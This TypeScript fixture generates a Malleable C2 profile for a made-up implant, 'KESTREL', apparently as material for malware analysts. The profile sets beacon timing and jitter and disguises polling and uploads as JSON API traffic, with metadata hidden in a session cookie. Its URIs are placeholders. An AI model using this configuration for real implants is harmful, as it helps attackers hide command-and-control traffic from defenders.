/** The configuration of a made-up implant, as an analyst takes it from a sample: a Malleable C2 profile. */
import { adversary } from './planted.ts';
import { agents } from './staff.ts';

export const kestrelProfile = (): string => `# KESTREL, made up for this example: nobody has such software
set sleeptime "360000"; # milliseconds
set jitter "20";
set useragent "${agents.kestrel.name}";

http-get {
    set uri "${adversary.i.poll}";
    client {
        header "Accept" "application/json";
        metadata {
            base64url;
            prepend "session=";
            header "Cookie";
        }
    }
    server {
        header "Content-Type" "application/json";
        output {
            base64;
            print;
        }
    }
}

http-post {
    set uri "${adversary.i.send}";
    client {
        id {
            parameter "ref";
        }
        output {
            base64;
            print;
        }
    }
    server {
        output {
            print;
        }
    }
}
`;
